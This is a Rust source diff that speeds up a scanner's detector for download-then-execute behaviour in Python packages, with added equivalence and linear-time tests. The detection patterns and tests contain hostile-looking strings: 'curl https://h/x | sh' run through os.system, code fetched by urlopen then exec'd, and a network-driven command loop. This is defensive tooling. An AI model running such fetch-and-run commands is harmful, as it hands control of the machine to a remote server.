@@ -108,7 +108,7 @@ fn may_match(file: &TextFile<'_>) -> (bool, bool) {
 /// ([`pysrc::find_at_words`]).
 fn pipe_ranges(file: &TextFile<'_>) -> Vec<(usize, usize)> {
     static STARTS: LazyLock<AhoCorasick> = LazyLock::new(|| pysrc::gate(&GATE_WORDS[..PIPE_WORDS]));
-    pysrc::find_at_words(&PIPE_AT, &PIPE, file, &STARTS)
+    super::net_exfil_endpoint::find_at_sparse_words(&PIPE_AT, &PIPE, file, &STARTS)
 }
 
 /// Running or making executable what was saved.
@@ -132,7 +132,10 @@ static DROP_WORDS: LazyLock<AhoCorasick> = LazyLock::new(|| {
 
 /// `DROP_RUN.captures_iter(text)`, confirmed at the words its matches start with.
 fn drop_runs<'t>(file: &TextFile<'t>) -> impl Iterator<Item = regex::Captures<'t>> {
-    pysrc::captures_at_words(&DROP_RUN_AT, &DROP_RUN, file, &DROP_WORDS)
+    let text = file.text;
+    super::net_exfil_endpoint::find_at_sparse_words(&DROP_RUN_AT, &DROP_RUN, file, &DROP_WORDS)
+        .into_iter()
+        .filter_map(move |(start, _)| DROP_RUN.captures_at(text, start))
 }
 /// Where a downloaded body is saved: the path argument of a save call or of a
 /// write-mode `open`, as an identifier or a string literal.
@@ -287,10 +290,29 @@ impl Detector for DownloadExecute {
                 push(hits, name.start(), &format!("{}(fetched)", name.as_str()));
             }
         }
+        // Names assigned from a network read: searched at most once, for both of their users.
+        let fetched = std::cell::OnceCell::new();
+        let fetched = || fetched.get_or_init(|| fetched_names(file));
         if file.exec_call_starts().is_some() {
-            fetched_code_run(file, &mut |off, ind| push(hits, off, &ind));
+            fetched_code_run(file, fetched(), &mut |off, ind| push(hits, off, &ind));
         }
-        // A download, then within a few lines a process start or chmod/startfile of it.
+        let mut runs: Vec<(usize, String)> =
+            sinks::find(src, &[SinkKind::Process]).into_iter().map(|s| (s.offset, s.name.to_string())).collect();
+        // `pip install <url>`: High, weighed by place (pushed last, after the Critical hits).
+        let pip_urls = pip_installs_from_url(file, &runs);
+        runs.extend(
+            RUN_SAVED
+                .find_iter(file.text)
+                .filter(|m| src.is_code(m.start()))
+                .map(|m| (m.start(), m.as_str().split('(').next().unwrap_or("").trim().to_string())),
+        );
+        runs.sort();
+        if runs.is_empty() {
+            push_pip(file, hits, &pip_urls, n);
+            return;
+        }
+        // A download, then within a few lines a process start or chmod/startfile of it (the
+        // downloads are looked for only when something runs: most members start nothing).
         // (offset, needs a write in between): response APIs must be written to disk
         // before they can be run; save APIs and command strings save by themselves.
         let saves: Vec<(usize, bool)> = FETCH_API
@@ -307,21 +329,6 @@ impl Detector for DownloadExecute {
                     .map(|&(start, _)| (start, false)),
             )
             .collect();
-        let mut runs: Vec<(usize, String)> =
-            sinks::find(src, &[SinkKind::Process]).into_iter().map(|s| (s.offset, s.name.to_string())).collect();
-        // `pip install <url>`: High, weighed by place (pushed last, after the Critical hits).
-        let pip_urls = pip_installs_from_url(file, &runs);
-        runs.extend(
-            RUN_SAVED
-                .find_iter(file.text)
-                .filter(|m| src.is_code(m.start()))
-                .map(|m| (m.start(), m.as_str().split('(').next().unwrap_or("").trim().to_string())),
-        );
-        runs.sort();
-        if runs.is_empty() {
-            push_pip(file, hits, &pip_urls, n);
-            return;
-        }
         // Computed once per file: line starts, function/class starts and writes in code.
         let lines = file.source().lines();
         let line = |o: usize| lines.line(o);
@@ -354,7 +361,7 @@ impl Detector for DownloadExecute {
             }
         }
         saved_then_run(file, &runs, &reported, &mut |off, ind| push(hits, off, &ind));
-        fetched_command_run(file, &runs, &mut |off, ind| push(hits, off, &ind));
+        fetched_command_run(file, &runs, fetched(), &mut |off, ind| push(hits, off, &ind));
         for off in fileless_runs(file, &runs) {
             push(hits, off, "in-memory executable (memfd_create) run");
         }
@@ -427,9 +434,8 @@ fn push_pip(file: &TextFile<'_>, hits: &mut Hits, found: &[(usize, String)], mut
 /// starts with a name assigned from a network read ([`FETCHED_NAME`]) earlier in the same
 /// function, at module level or in a class body (`code = urlopen(u).read()` … `exec(code)`,
 /// `exec(body.decode())`).
-fn fetched_code_run(file: &TextFile<'_>, push: &mut dyn FnMut(usize, String)) {
+fn fetched_code_run(file: &TextFile<'_>, names: &[(usize, &str)], push: &mut dyn FnMut(usize, String)) {
     let (src, t) = (file.source(), file.text);
-    let names = fetched_names(file);
     if names.is_empty() {
         return;
     }
@@ -449,16 +455,73 @@ fn fetched_code_run(file: &TextFile<'_>, push: &mut dyn FnMut(usize, String)) {
     }
 }
 
-/// The names [`FETCHED_NAME`] assigns in code, with where each is assigned.
+/// The names [`FETCHED_NAME`] assigns in code, with where each is assigned. Searched once per
+/// member (both users share it), and only from the lines a match can start on
+/// ([`fetched_name_starts`]).
 fn fetched_names<'t>(file: &TextFile<'t>) -> Vec<(usize, &'t str)> {
     let src = file.source();
-    FETCHED_NAME
-        .captures_iter(file.text)
+    let text = file.text;
+    pysrc::find_at_starts(&FETCHED_NAME_AT, text, fetched_name_starts(text))
+        .into_iter()
+        .filter_map(|(start, _)| FETCHED_NAME.captures_at(text, start))
         .filter(|c| src.is_code(c.name("f").expect("f").start()))
         .filter_map(|c| c.name("v"))
         .filter(|v| src.is_code(v.start()))
         .map(|v| (v.start(), v.as_str()))
         .collect()
+}
+
+/// Literals one of which every [`FETCHED_NAME`] match holds in its `f` group (`urlopen`,
+/// `requests.get`, `\w+.get`, `\w+.post`, `requests.request`, `\w+.recv`), on the line of its `=`.
+const FETCHED_NAME_WORDS: &[&str] = &["urlopen", ".get", ".post", ".request", ".recv"];
+
+/// Where a [`FETCHED_NAME`] match can start, ascending: a match starts at a line start (`^`), its
+/// name on that line, then `\s*` (which may cross lines) and the `=` on the line that holds the
+/// call ([`FETCHED_NAME_WORDS`]: `[^=\n][^\n]*?` keeps it on the `=`'s line). So the candidates
+/// are each line holding a word, and, when that line is blank up to its first `=`, the lines
+/// before it up to and including the first one that holds a byte `\s` cannot be (a printable
+/// ASCII byte; other non-ASCII bytes may be Unicode spaces, so the walk goes on over them). A
+/// line holding a word is not blank, so each blank run is walked from the one line after it:
+/// linear. The words are found with `memmem`, one pass each (an automaton over the five,
+/// restarted after each of the many `.get`, cost more on litellm: 58 M instructions).
+fn fetched_name_starts(text: &str) -> Vec<usize> {
+    let b = text.as_bytes();
+    let blank = |s: &[u8]| !s.iter().any(u8::is_ascii_graphic);
+    let line_start = |o: usize| memchr::memrchr(b'\n', &b[..o]).map_or(0, |p| p + 1);
+    let line_end = |o: usize| memchr::memchr(b'\n', &b[o..]).map_or(b.len(), |p| o + p);
+    // The lines holding a word: one `memmem` pass per word, each line taken once per word.
+    let mut lines = Vec::new();
+    for w in FETCHED_NAME_WORDS {
+        let mut end = 0;
+        for at in memchr::memmem::find_iter(b, w.as_bytes()) {
+            if at >= end {
+                lines.push(line_start(at));
+                end = line_end(at);
+            }
+        }
+    }
+    lines.sort_unstable();
+    lines.dedup();
+    let mut out = lines.clone();
+    for &ls in &lines {
+        let le = line_end(ls);
+        let eq = memchr::memchr(b'=', &b[ls..le]).map_or(le, |p| ls + p);
+        if !blank(&b[ls..eq]) {
+            continue;
+        }
+        let mut cur = ls;
+        while cur > 0 {
+            let prev = line_start(cur - 1);
+            out.push(prev);
+            if !blank(&b[prev..cur - 1]) {
+                break;
+            }
+            cur = prev;
+        }
+    }
+    out.sort_unstable();
+    out.dedup();
+    out
 }
 
 /// An interpreter or launcher right before a path in a command: `bash <p>`, `['sh', p]`,
@@ -646,15 +709,22 @@ static FETCHED_NAME: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r"(?m)^[ \t]*(?P<v>[A-Za-z_]\w*)\s*=[^=\n][^\n]*?(?P<f>(?-u:\b)(?:urllib\.request\.urlopen|urllib2\.urlopen|urlopen|requests\.(?:get|post|request)|httpx\.(?:get|post)|\w+\.get|\w+\.post)\s*\([^\n]*\)\s*\.(?:text|content|json\s*\(|read\s*\()|(?-u:\b)(?:urllib\.request\.urlopen|urlopen)\s*\(|(?-u:\b)\w+\.recv\s*\()")
         .expect("fetched name")
 });
+/// [`FETCHED_NAME`] for anchored searches ([`pysrc::find_at_starts`]).
+static FETCHED_NAME_AT: LazyLock<regex_automata::meta::Regex> =
+    LazyLock::new(|| regex_automata::meta::Regex::new(FETCHED_NAME.as_str()).expect("fetched name"));
 
 /// A command read from the network and run: a process started with a name assigned from a
 /// response (`job = requests.get(u).json()` then `subprocess.getoutput(job['cmd'])`, `os.system
 /// (cmd)`) in the same function or at module level, the name being the command itself (first
 /// argument) or a shell's `-c` script. A remote command loop; the server decides what runs.
-fn fetched_command_run(file: &TextFile<'_>, runs: &[(usize, String)], push: &mut dyn FnMut(usize, String)) {
+fn fetched_command_run(
+    file: &TextFile<'_>,
+    runs: &[(usize, String)],
+    names: &[(usize, &str)],
+    push: &mut dyn FnMut(usize, String),
+) {
     let src = file.source();
     let t = file.text;
-    let names = fetched_names(file);
     if names.is_empty() {
         return;
     }
@@ -832,6 +902,150 @@ mod tests {
             (found, drops) = (found + f, drops + d);
         }
         assert!(found > 500 && drops > 100, "the random texts hold matches: {found}, drops {drops}");
+    }
+
+    /// [`fetched_names`] as it was: the whole member searched.
+    fn fetched_names_whole<'t>(file: &TextFile<'t>) -> Vec<(usize, &'t str)> {
+        let src = file.source();
+        FETCHED_NAME
+            .captures_iter(file.text)
+            .filter(|c| src.is_code(c.name("f").expect("f").start()))
+            .filter_map(|c| c.name("v"))
+            .filter(|v| src.is_code(v.start()))
+            .map(|v| (v.start(), v.as_str()))
+            .collect()
+    }
+
+    #[test]
+    fn fetched_names_from_candidate_lines_are_the_whole_search() {
+        let check = |name: &str, text: &str| {
+            let file = TextFile::new("pkg/a.py", FileRole::Runtime, true, text);
+            let got = fetched_names(&file);
+            assert_eq!(got, fetched_names_whole(&file), "{name}");
+            let starts = |t: &str| FETCHED_NAME.find_iter(t).map(|m| (m.start(), m.end())).collect::<Vec<_>>();
+            assert_eq!(
+                pysrc::find_at_starts(&FETCHED_NAME_AT, text, fetched_name_starts(text)),
+                starts(text),
+                "{name}: matches"
+            );
+            got.len()
+        };
+        let cases = [
+            ("empty", ""),
+            ("response json", "job = requests.get(u).json()\ncmd = urlopen(u).read().decode()\n"),
+            ("session text", "    r = session.get(u, timeout=3).text\n"),
+            ("socket", "cmd = s.recv(1024).decode()\nmsg = ws.recv()\n"),
+            ("a dict get is not a fetch", "x = d.get(k)\ny = cfg.post\n"),
+            ("comparison", "x == urlopen(u).read()\n"),
+            ("in a string or comment", "s = 'cmd = urlopen(u).read()'\n# cmd = urlopen(u)\n"),
+            ("name and = on different lines", "cmd \\\n    = urlopen(u)\n"),
+            ("blank lines before the =", "cmd\n\n  \t\n= urlopen(u)\n"),
+            ("a Unicode space line", "cmd\n\u{3000}\n= urlopen(u)\nv\n\u{a0}= s.recv(1)\n"),
+            ("call on the next line", "x = requests.get(u)\n  .text\n"),
+            ("two on a line", "a = urlopen(u); b = urlopen(v)\n"),
+            ("CRLF", "a = urlopen(u)\r\nb = x.post(u).json()\r\n"),
+            ("non-ASCII names", "données = requests.get(u).json()\nπ = urlopen(u)\n"),
+            ("word at the start", ".get(u).text = urlopen(u)\n"),
+        ];
+        for (name, text) in cases {
+            check(name, text);
+        }
+        let pieces = [
+            "cmd",
+            " = ",
+            "=",
+            "==",
+            "\n",
+            "\n\n",
+            "  ",
+            "\t",
+            "\u{3000}",
+            "urlopen(u)",
+            "requests.get(u)",
+            "x.get(",
+            "s.post(u)",
+            ".text",
+            ".json()",
+            ".read()",
+            "ws.recv()",
+            ".request(",
+            ")",
+            "'",
+            "#",
+            "é",
+            "\\\n",
+            "\ncmd = urlopen(u).read()\n",
+            "\njob = requests.get(u).json()\n",
+            "\nc = ws.recv()\n",
+            "\nv",
+            "\ncmd = urlopen(u).read()\n",
+            "\njob = requests.get(u).json()\n",
+            "\nc = ws.recv()\n",
+            "\nv",
+        ];
+        let mut found = 0;
+        for text in super::pysrc::random_texts(&pieces, 24, 0x9e37_79b9_7f4a_7c15u64, 4000) {
+            found += check(&text, &text);
+        }
+        assert!(found > 300, "the random texts assign fetched names: {found}");
+    }
+
+    #[test]
+    fn many_downloader_words_on_one_line_cost_linear_time() {
+        // One line of tens of thousands of `curl `/`wget `/`iwr `: the pipe, drop-then-run and
+        // command patterns read on from each word to the line's end (8 s for 20,000 `curl ` when
+        // each was tried); past 64 words on a line the member is searched whole.
+        let make =
+            |n: usize| format!("import os\nx = '{}'\nos.system('curl https://h/x | sh')\n", "curl wget iwr ".repeat(n));
+        let time = |text: &str| {
+            let file = TextFile::new("pkg/a.py", FileRole::Runtime, true, text);
+            let t = std::time::Instant::now();
+            let mut hits = Hits::default();
+            DownloadExecute.scan_text(&file, &mut hits);
+            super::super::net_downloads_file::DownloadsFile.scan_text(&file, &mut hits);
+            let elapsed = t.elapsed();
+            let whole = |re: &Regex| re.find_iter(text).map(|m| (m.start(), m.end())).collect::<Vec<_>>();
+            assert_eq!(pipe_ranges(&file), whole(&PIPE), "pipe");
+            assert_eq!(
+                command_ranges(&file).iter().copied().collect::<Vec<_>>(),
+                whole(&super::super::net_downloads_file::COMMAND),
+                "command"
+            );
+            (elapsed, hits.len())
+        };
+        let (t1, _) = time(&make(5_000));
+        let (t4, found) = time(&make(20_000));
+        assert!(found >= 1, "the pipe into sh is still found");
+        assert!(t4 < std::time::Duration::from_secs(2), "{t4:?} for 20,000");
+        assert!(t4 < t1 * 12 + std::time::Duration::from_millis(100), "5,000 took {t1:?}, 20,000 took {t4:?}");
+    }
+
+    #[test]
+    fn many_candidate_lines_cost_linear_time() {
+        // Every line holds a candidate word (`.get`) and most are blank up to an `=` after long
+        // blank runs: each line is confirmed once, each blank run walked once.
+        let make = |n: usize| {
+            let mut s = String::from("import requests\n");
+            for i in 0..n {
+                s.push_str(&format!("v{i} = d.get(k)\n"));
+                s.push_str("x\n   \n\t\n\n= .get .post .recv urlopen\n");
+            }
+            s.push_str("cmd = requests.get(u).text\nimport os\nos.system(cmd)\n");
+            s
+        };
+        let time = |text: &str| {
+            let file = TextFile::new("pkg/a.py", FileRole::Runtime, true, text);
+            let t = std::time::Instant::now();
+            let names = fetched_names(&file);
+            let mut hits = Hits::default();
+            DownloadExecute.scan_text(&file, &mut hits);
+            (t.elapsed(), names.len(), hits.len())
+        };
+        let (t1, _, _) = time(&make(5_000));
+        let (t4, names, found) = time(&make(20_000));
+        assert!(names >= 1 && found == 1, "the fetched command is still found: {names} names, {found} hits");
+        assert!(t4 < std::time::Duration::from_secs(2), "{t4:?} for 20,000");
+        assert!(t4 < t1 * 12 + std::time::Duration::from_millis(100), "5,000 took {t1:?}, 20,000 took {t4:?}");
     }
 
     #[test]
